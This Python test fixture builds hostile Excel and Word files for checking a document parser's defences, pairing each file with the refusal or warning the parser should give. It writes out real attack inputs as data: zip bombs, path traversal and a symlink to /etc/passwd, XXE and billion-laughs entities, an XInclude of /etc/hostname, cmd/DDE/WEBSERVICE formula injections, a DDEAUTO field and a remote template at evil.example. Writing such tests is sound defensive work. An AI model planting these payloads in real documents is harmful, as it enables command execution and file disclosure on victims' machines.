"""The hostile files by threat, as `SAFETY` numbers them, each with its stored outcome."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import partial

from tests.hostile.making import (
    ANSWER,
    CANARY,
    FORM,
    KIT,
    MAIN,
    changed,
    doctype,
    filled,
    inside,
    link_entry,
    lying_about_size,
    overlapping,
    packed,
    paragraphs,
    parts_of,
    relations,
    replacing,
    rows,
    with_parts,
)

Make = Callable[[], bytes]
_ENTITY = f'<!DOCTYPE x [<!ENTITY e "{CANARY}">]>'
_OUTSIDE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
_LAUGHS = "<!DOCTYPE x [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9)) + "]>"
_REL_NAMESPACE = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


@dataclass(frozen=True)
class Hostile:
    """One file. Either `refused` is the code it is refused with, or what comes back of it stands here.

    `told` are the codes of problems that must be among those of the return, `extras` texts that must stand in its
    extras, `answer` is what comes back as the case reference.
    """

    name: str
    threat: int
    make: Make
    refused: str = ""
    answer: str | None = ANSWER
    told: Sequence[str] = ()
    extras: Sequence[str] = ()
    values: dict[str, object] = field(default_factory=dict)


def _zips(kind: str) -> Iterator[Hostile]:
    def one(name: str, threat: int, make: Make, refused: str, **more: object) -> Hostile:
        return Hostile(f"{kind}: {name}", threat, make, refused, **more)  # type: ignore[arg-type]  # by name

    add = partial(partial, with_parts, kind)
    yield one("a part that unpacks to 300 times its size", 1, add(("a.xml", b"0" * 30_000_000)), "F007")
    yield one("three thousand parts", 1, add(*((f"{n}.xml", b"") for n in range(3000))), "F007")
    yield one("a size of three gigabytes", 1, partial(lying_about_size, kind), "F003")
    bomb = packed({"a.xml": b"0" * 30_000_000})
    inner = {"excel": "xl/embeddings/inner.xlsx", "word": "word/embeddings/inner.docx"}[kind]
    listed = {"told": ["F008"]} if kind == "word" else {"extras": ["inner.xlsx"]}
    yield one("a bomb inside an embedded file", 1, add((inner, bomb)), "", **listed)
    yield one("overlapping parts", 2, partial(overlapping, kind), "F006")
    yield one("a part twice", 3, add((MAIN[kind], CANARY.encode())), "F006")
    yield one("a part again in capitals", 3, add((MAIN[kind].upper(), CANARY.encode())), "F006")
    yield one("a name that climbs", 4, add(("../../etc/x.xml", b"")), "F006")
    yield one("an absolute name", 4, add(("//server/x.xml", b"")), "F006")
    yield one("a name with a drive", 4, add(("C:/x.xml", b"")), "F006")
    yield one("a symbolic link", 4, add((link_entry(), b"/etc/passwd")), "F006")


def _xml(kind: str) -> Iterator[Hostile]:
    def one(name: str, threat: int, make: Make, refused: str, **more: object) -> Hostile:
        return Hostile(f"{kind}: {name}", threat, make, refused, **more)  # type: ignore[arg-type]  # by name

    change = partial(partial, changed, kind)
    for encoding in ("utf-8", "utf-16"):
        yield one(f"an entity in {encoding}", 5, change(doctype(_ENTITY, encoding)), "F006")
        yield one(f"a document type from the net in {encoding}", 5, change(doctype(_OUTSIDE, encoding)), "F006")
    yield one("entities that multiply", 5, change(doctype(_LAUGHS)), "F006")
    yield one("an entity in its relationships", 5, change(doctype(_ENTITY), "_rels/.rels"), "F006")
    including = f'<include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text">{CANARY}'
    put = rows if kind == "excel" else paragraphs
    yield one("a part to include", 5, change(put(f"{including}</include>")), "")
    deep = "<x>" * 1000 + "</x>" * 1000
    yield one("a thousand levels", 6, change(put(deep)), "F007")
    yield one("cut short", 11, lambda: filled(kind)[: len(filled(kind)) // 2], "F004")
    broken = partial(changed, kind, lambda content: content[:-40])
    yield one("a part that is cut short", 11, broken, "F004")


def _cell(reference: str, inner: str, more: str = "") -> str:
    number = "".join(letter for letter in reference if letter.isdigit())
    return f'<row r="{number}"><c r="{reference}" {more}>{inner}</c></row>'


def _text(reference: str, text: str) -> str:
    return _cell(reference, f"<is><t>{text}</t></is>", 't="inlineStr"')


def _sheets() -> Iterator[Hostile]:
    sheet = partial(partial, changed, "excel")
    whole = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield Hostile("excel: the whole sheet merged", 6, sheet(replacing("</sheetData>", f"</sheetData>{whole}")))
    far = sheet(rows(_text("XFD1048576", "far away")))
    yield Hostile("excel: a cell at the far corner", 7, far, extras=["far away"])
    lying = sheet(inside('<dimension ref="A1:A1"/>', "<sheetViews"))
    yield Hostile("excel: a dimension that leaves the answers out", 7, lying)
    wide = sheet(inside('<dimension ref="A1:XFD1048576"/>', "<sheetViews"))
    yield Hostile("excel: a dimension of everything", 7, wide)
    for many in (b"4000000000", b"-1", b"x"):
        counted = changed("excel", lambda content: content, more={"xl/sharedStrings.xml": _shared(many)})
        yield Hostile(f"excel: {many.decode()} shared strings", 7, lambda data=counted: data)  # type: ignore[misc]  # the default keeps the value of this round
    yield Hostile(
        "excel: a row of a number that no sheet has", 7, sheet(rows(_text("D999999999", "odd"))), extras=["odd"]
    )
    yield Hostile("excel: a column that no sheet has", 7, sheet(rows(_text("AAAAAAAA90", "odd"))), extras=["odd"])
    yield Hostile("excel: a note at the far corner", 7, _note, extras=["far note"])
    runs = sheet(
        rows(_cell("F90", "<is>" + "".join(f"<r><t>{n} </t></r>" for n in range(200_000)) + "</is>", 't="inlineStr"'))
    )
    yield Hostile("excel: a text of many runs", 8, runs, extras=["199998 199999"])
    yield Hostile("excel: links over many rows", 8, _links, extras=["http://evil.example/"])
    names = "".join(f"<definedName name=\"qf_x_{n}\">'A The case'!$D$4</definedName>" for n in range(60_000))
    yield Hostile("excel: sixty thousand names", 8, sheet(inside(names, "</definedNames>"), "xl/workbook.xml"))
    columns = "".join(f'<c r="{_letters(n)}300"><f>A1</f><v>1</v></c>' for n in range(16_000))
    yield Hostile("excel: a row of formulas", 8, sheet(rows(f'<row r="300">{columns}</row>')), told=["R115"])
    marks = "".join(f'<c r="{_letters(n)}301" t="inlineStr"><is><t>qaf:x</t></is></c>' for n in range(1, 3000))
    marked = f'<row r="301">{_mark("A301", "qaf:columns t")}{marks}</row>'
    marked += "".join(f'<row r="{n}">{_mark(f"A{n}", "qaf:t[1]")}</row>' for n in range(302, 600))
    yield Hostile("excel: hidden marks for a million answers", 8, sheet(rows(marked)), refused="F007")
    working = parts_of(filled("excel"))["xl/worksheets/sheet3.xml"]
    assert b"qaf:working" in working
    many = changed("excel", rows(f'<row r="300">{columns}</row>'), "xl/worksheets/sheet3.xml")
    yield Hostile("excel: a row of formulas on the sheet that works things out", 8, lambda: many)
    yield from _active_sheets()


def _active_sheets() -> Iterator[Hostile]:
    sheet = partial(partial, changed, "excel")
    macros = partial(with_parts, "excel", ("xl/vbaProject.bin", b"x"))
    yield Hostile("excel: macros", 9, macros, told=["F008"])
    sheets = partial(with_parts, "excel", ("xl/macrosheets/sheet1.xml", b"<x/>"))
    yield Hostile("excel: a macro sheet", 9, sheets, told=["F008"])
    yield Hostile("excel: ActiveX", 9, partial(with_parts, "excel", ("xl/activeX/x.bin", b"x")), told=["F008"])
    for formula in ("cmd|'/C calc'!A0", "DDE(&quot;cmd&quot;;&quot;x&quot;)", "WEBSERVICE(&quot;http://x&quot;)"):
        calling = sheet(rows(_cell("F90", f"<f>{formula}</f><v>1</v>")))
        yield Hostile(f"excel: the formula {formula}", 9, calling, told=["F009"])
    outside = relations(("a", "externalLinkPath", "file:///server/x.xlsx", True))
    link = (
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", outside),
    )
    yield Hostile("excel: a link to another workbook", 10, partial(with_parts, "excel", *link), told=["F009"])
    yield Hostile("excel: an error", 14, sheet(rows(_cell("F90", "<v>#REF!</v>", 't="e"'))), told=["R116"])
    day = replacing("<workbookPr/>", '<workbookPr date1904="1"/>')
    yield Hostile("excel: days counted from 1904", 14, partial(_dated, day, "44266"), values={"seen_on": "2025-03-12"})
    same = replacing("<workbookPr/>", "<workbookPr/>")
    yield Hostile("excel: the leap day that was not", 14, partial(_dated, same, "60"), told=["R106"])
    number = partial(typed, "visits", "<v>12345678901234567890</v>")
    yield Hostile("excel: a number of twenty digits", 14, number, told=["R105"])
    text = partial(typed, "case_ref", "<v>7</v>")
    yield Hostile("excel: a number where text was asked for", 14, text, answer="7")


def _documents() -> Iterator[Hostile]:
    document = partial(partial, changed, "word")
    wide = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    yield Hostile("word: a cell over a billion columns", 6, document(paragraphs(wide)))
    runs = document(paragraphs("<w:p>" + "".join(f"<w:r><w:t>{n} </w:t></w:r>" for n in range(100_000)) + "</w:p>"))
    yield Hostile("word: a paragraph of many runs", 8, runs, extras=["99998"])
    many = document(paragraphs("<w:p><w:r><w:t>own words</w:t></w:r></w:p>" * 20_000))
    yield Hostile("word: twenty thousand paragraphs", 8, many, extras=["own words"])
    yield Hostile("word: macros", 9, partial(with_parts, "word", ("word/vbaProject.bin", b"x")), told=["F008"])
    instruction = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    calling = f"{instruction.format('begin')}<w:r><w:instrText>DDEAUTO cmd /C</w:instrText></w:r>"
    calling = f"<w:p>{calling}{instruction.format('end')}</w:p>"
    yield Hostile("word: a DDE field", 9, document(paragraphs(calling)), told=["F008"])
    template = relations(("rId99", "attachedTemplate", "http://evil.example/x.dotm", True))
    settings = partial(with_parts, "word", ("word/_rels/settings.xml.rels", template))
    yield Hostile("word: a template from the net", 10, settings, told=["F009"])
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden words</w:t></w:r></w:p>"
    yield Hostile("word: hidden words", 12, document(paragraphs(hidden)), extras=["hidden words"])


def _others() -> Iterator[Hostile]:
    for name, data, code in (
        ("an empty file", b"", "F002"),
        ("a PDF", b"%PDF-1.7\n", "F001"),
        ("a text file", b"Ref,Answer\nA1,x\n", "F001"),
        ("Unicode text", "Ref\tAnswer\nA1\tx\n".encode("utf-16"), "F001"),
        ("a web page", b"<!DOCTYPE html><html></html>", "F001"),
        ("bytes", bytes(range(256)) * 4, "F001"),
        ("an old file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "F001"),
        ("a zip file of something else", packed({"a.txt": b"x"}), "F001"),
    ):
        yield Hostile(f"other: {name}", 11, lambda data=data: data, refused=code)  # type: ignore[misc]  # the default keeps the value of this round


def _twins() -> Iterator[Hostile]:
    yield Hostile("excel: two answers under one name", 13, _named_twice, told=["R109"])
    yield Hostile("word: two answers under one tag", 13, _tagged_twice, told=["R109"])


def _named_twice() -> bytes:
    found = KIT.layout(FORM).field("case_ref")
    assert found is not None
    twin = f'<definedName name="{found.anchor}" localSheetId="1">\'A The case\'!$F$90</definedName>'
    parts = parts_of(changed("excel", rows(_text("F90", "N-08"))))
    return packed({**parts, "xl/workbook.xml": inside(twin, "</definedNames>")(parts["xl/workbook.xml"])})


def _tagged_twice() -> bytes:
    document = parts_of(filled("word"))[MAIN["word"]].decode()
    start = document.rindex("<w:sdt>", 0, document.index(ANSWER))
    control = document[start : document.index("</w:sdt>", start) + len("</w:sdt>")]
    return changed("word", paragraphs(f"<w:p>{control.replace(ANSWER, 'N-08')}</w:p>"))


def _mark(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def _letters(column: int) -> str:
    letters = ""
    column += 1
    while column:
        column, rest = divmod(column - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _shared(count: bytes) -> bytes:
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return b'<sst xmlns="%s" count="%s" uniqueCount="%s"/>' % (main, count, count)


def _note() -> bytes:
    rels = relations(("n", "comments", "../comments9.xml", False))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    note = '<comment ref="XFD1048576"><text><t>far note</t></text></comment>'
    comments = f'<comments xmlns="{main}"><commentList>{note}</commentList></comments>'.encode()
    return with_parts("excel", ("xl/worksheets/_rels/sheet2.xml.rels", rels), ("xl/comments9.xml", comments))


def _links() -> bytes:
    links = "".join(f'<hyperlink ref="Z{n}" r:id="h"/>' for n in range(1000, 4000))
    return links_to(links, "".join(_cell(f"F{n}", "<v>1</v>") for n in range(1000, 11_000)))


def links_to(links: str, cells: str) -> bytes:
    """A workbook with these rows and links, whose target has the id h."""
    parts = parts_of(filled("excel"))
    content = parts[MAIN["excel"]].decode().replace("</sheetData>", f"{cells}</sheetData>")
    tail = f"<hyperlinks {_REL_NAMESPACE}>{links}</hyperlinks><pageMargins"
    parts[MAIN["excel"]] = content.replace("<pageMargins", tail).encode()
    outside = relations(("h", "hyperlink", "http://evil.example/", True))
    return packed({**parts, "xl/worksheets/_rels/sheet2.xml.rels": outside})


def place(key: str) -> str:
    """Where the answer cell of a key is."""
    found = KIT.layout(FORM).field(key)
    assert found is not None
    names = parts_of(filled("excel"))["xl/workbook.xml"].decode()
    return names.partition(f'name="{found.anchor}">')[2].partition("<")[0].rpartition("!")[2].replace("$", "")


def typed(key: str, inner: str) -> bytes:
    """The answer cell of a key with something else in it."""
    cell = re.compile(rf'<c r="{place(key)}"( s="[0-9]+")?[^>]*?(/>|>.*?</c>)')
    return changed(
        "excel",
        lambda data: cell.sub(lambda m: f'<c r="{place(key)}"{m[1] or ""}>{inner}</c>', data.decode(), 1).encode(),
    )


def _dated(book: Callable[[bytes], bytes], serial: str) -> bytes:
    parts = parts_of(typed("seen_on", f"<v>{serial}</v>"))
    return packed({**parts, "xl/workbook.xml": book(parts["xl/workbook.xml"])})


HOSTILE: tuple[Hostile, ...] = (
    *_zips("excel"),
    *_zips("word"),
    *_xml("excel"),
    *_xml("word"),
    *_sheets(),
    *_documents(),
    *_twins(),
    *_others(),
)
